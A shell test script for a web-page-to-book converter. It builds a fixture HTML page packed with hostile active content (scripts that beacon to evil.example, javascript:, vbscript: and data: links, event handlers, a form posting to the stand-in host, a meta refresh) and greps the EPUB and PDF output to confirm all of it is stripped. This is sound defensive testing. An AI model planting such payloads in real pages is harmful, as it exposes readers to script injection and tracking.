#!/bin/sh
# Nothing active reaches a book from a saved web page (issue 12, point 7),
# through the HTML reader (tests/24-html-conv.t shows the same through
# Markdown's raw HTML): scripts (head and body), event handlers,
# javascript:/vbscript:/data: links, iframe, object, embed, forms, base,
# meta refresh, the page's CSS (style elements, style attributes,
# stylesheet links) and remote resources of any kind; the article's words
# stay; both books, epubcheck clean.
. tests/lib.sh
need python3 unzip pdftotext java

D=$TMP/in
mkdir -p "$D"
P="The compositor set the type by hand, letter by letter, and the proofs came back with a hundred small corrections, each of them marked in the margin in red ink."
cat >"$D/active.html" <<EOF
<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Active Things</title>
<base href="https://evil.example/base/">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/sheet.css">
<style>p { color: red } .secret { display: block }</style>
<script>document.title = "hijacked"; fetch("https://evil.example/beacon")</script>
<script src="https://evil.example/lib.js"></script>
</head><body onload="steal()">
<article>
<h1>Active Things</h1>
<p onclick="steal()" style="color: red; background: url(https://evil.example/bg.png)">First words. $P</p>
<p>Links: <a href="javascript:alert(1)">js link</a>, <a href="vbscript:msgbox(1)">vb link</a>,
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>,
<a href="https://example.org/ok">good link</a>. $P</p>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<form action="https://evil.example/post"><input name="q" value="typed-in-form"><button>Send-button</button></form>
<p>A remote picture: <img src="https://evil.example/photo.jpg" alt="a remote photo"> and more. $P</p>
<video src="https://evil.example/clip.mp4"></video><audio src="https://evil.example/a.mp3"></audio>
<svg><script>alert(2)</script></svg>
<p>Last words. $P</p>
<script>alert(3)</script>
</article></body></html>
EOF
"$MKBOOK" -o "$TMP/out" "$D/active.html" 2>"$TMP/err"
is "$?" 0 "a page full of active things: both books"
E=$(ls "$TMP/out/"*.epub)
P=$(ls "$TMP/out/"*.pdf)
W=$(cat "$TMP/err")
# scripts, frames, objects and forms of a web page are page furniture the
# finder leaves out (tests/24-html-conv.t names them from Markdown); what
# the article held and lost is named: its links and its picture
for what in 'javascript:' 'vbscript:' 'data:' 'https://evil.example/photo.jpg'; do
	like "$W" "active.html:[0-9]+: warning: .*$what" "left out and named with FILE:LINE: $what"
done
like "$("$MKBOOK" --dump-model "$D/active.html" 2>/dev/null)" '"alt": "a remote photo"' \
	"the remote picture keeps its words" 
rm -rf "$TMP/x"; mkdir "$TMP/x"
(cd "$TMP/x" && unzip -q "$E")
X=$(cat "$TMP/x/OEBPS/text/"a*.xhtml)
like "$X" 'First words\.' "EPUB: the article's words are kept"
like "$X" 'Last words\.' "EPUB: … to its end"
like "$X" 'js link, vb link, data link, <a href="https://example.org/ok">good link</a>' \
	"EPUB: only the good link is a link; the others keep their words"
ok "EPUB: no script, handler, frame, object, embed, form, video, svg" sh -c \
	"! grep -il -e '<script' -e ' on[a-z]*=' -e '<iframe' -e '<object' -e '<embed' -e '<form' -e '<input' -e '<video' -e '<audio' -e '<svg' -e 'hijacked' -e 'alert(' '$TMP/x/OEBPS/text/'a*.xhtml"
ok "EPUB: no javascript:, vbscript: or data: URL, no base, no meta refresh" sh -c \
	"! grep -ril -e 'javascript:' -e 'vbscript:' -e 'data:text' -e '<base' -e 'http-equiv' '$TMP/x/OEBPS'"
ok "EPUB: not the page's CSS (no style attribute, no style element, no stylesheet of its own)" sh -c \
	"! grep -il -e ' style=' -e '<style' -e 'color: red' '$TMP/x/OEBPS/text/'a*.xhtml && ! grep -rl 'color: red' '$TMP/x/OEBPS/css'"
ok "EPUB: nothing of evil.example anywhere" sh -c "! grep -rl 'evil.example' '$TMP/x'"
T=$(pdftotext "$P" - | tr '\n' ' ')
like "$T" 'First words\..*Last words\.' "PDF: the article's words, in order"
ok "PDF: no script text, no form text" sh -c \
	"! pdftotext '$P' - | grep -e hijacked -e 'alert(' -e typed-in-form -e Send-button"
ok "PDF: no link but the good one, nothing of evil.example" python3 -c "
import re, sys, zlib
d = open('$P', 'rb').read()
uris = set(re.findall(rb'/URI\s*\(([^)]*)\)', d))
assert uris <= {b'https://example.org/ok'}, uris
assert b'evil.example' not in d
for m in re.finditer(rb'stream\r?\n(.*?)endstream', d, re.S):
    try:
        assert b'evil.example' not in zlib.decompress(m.group(1))
    except zlib.error:
        pass
"
ok "epubcheck: no errors, no warnings" sh -c \
	"java -jar /usr/share/java/epubcheck.jar '$E' 2>&1 | grep -q 'Messages: 0 fatals / 0 errors / 0 warnings'"
done_testing
